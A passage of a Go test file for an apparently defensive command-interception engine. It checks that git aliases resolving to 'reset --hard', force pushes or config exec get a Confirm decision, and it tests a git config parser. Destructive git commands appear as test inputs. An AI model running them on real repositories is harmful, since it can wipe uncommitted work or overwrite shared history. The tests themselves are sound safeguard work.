	fsys[testHome+"/.config/git/config"] = "[alias]\n\tpf = status\n"
	fsys[testCwd+"/.git/config"] = "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = git@example.com:a/b.git\n[alias]\n\twipe = reset \\\n --hard\n\tST = status\n"
	cases := []struct {
		src  string
		want Decision
		rule string
	}{
		{"git st", Allow, ""},
		{"git lg -5", Allow, ""},
		{"git pf", Confirm, "git.force-push-lease"},
		{"git nuke", Confirm, "git.config-exec"},
		{"git wipe", Confirm, "git.reset-hard"},
		{"git WIPE", Confirm, "git.reset-hard"},
		{"git -C /home/u status", Allow, ""},
		{"git nosuchalias", Allow, ""},
		// A builtin is never shadowed by an alias.
		{"git status", Allow, ""},
	}
	for _, c := range cases {
		e, err := NewEngine([]*Pack{GitPack()}, nil)
		if err != nil {
			t.Fatal(err)
		}
		invs := interceptor.Analyze(c.src, interceptor.Context{Cwd: testCwd, Home: testHome, User: "u", FS: fsys})
		v := e.Evaluate(invs, testWorld(fsys))
		if v.Decision != c.want {
			t.Errorf("%q: got %s, want %s; findings %+v", c.src, v.Decision, c.want, v.Findings)
			continue
		}
		if c.rule != "" && (len(v.Findings) == 0 || v.Findings[0].Rule != c.rule) {
			t.Errorf("%q: findings %+v, want rule %s", c.src, v.Findings, c.rule)
		}
	}
}

func TestParseGitConfig(t *testing.T) {
	text := "# comment\n[Alias]\n\tA = push -f ; comment\n\tb = \"!echo \\\"hi\\\" # not a comment\"\n\tflag\n" +
		"[remote \"Origin\"]\n\tpush = +refs/heads/*:refs/heads/*\n[branch.main] remote = origin\n\tlong = one \\\ntwo\n"
	want := []configEntry{
		{"alias", "", "a", "push -f"},
		{"alias", "", "b", `!echo "hi" # not a comment`},
		{"alias", "", "flag", "true"},
		{"remote", "Origin", "push", "+refs/heads/*:refs/heads/*"},
		{"branch", "main", "remote", "origin"},
		{"branch", "main", "long", "one two"},
	}
	if got := parseGitConfig(text); !reflect.DeepEqual(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

// TestGitNilWorld checks that the pack works without a World.
func TestGitNilWorld(t *testing.T) {
	e, err := NewEngine([]*Pack{GitPack()}, nil)
	if err != nil {
		t.Fatal(err)
	}
	inv := interceptor.Invocation{Name: "git", Args: []interceptor.Word{{Value: "reset"}, {Value: "--hard"}}, Cwd: "/nonexistent/app"}
	v := e.Evaluate([]interceptor.Invocation{inv}, nil)
	if v.Decision != Confirm || len(v.Findings) != 1 || v.Findings[0].Rule != "git.reset-hard" {
		t.Errorf("got %+v", v)
	}
}
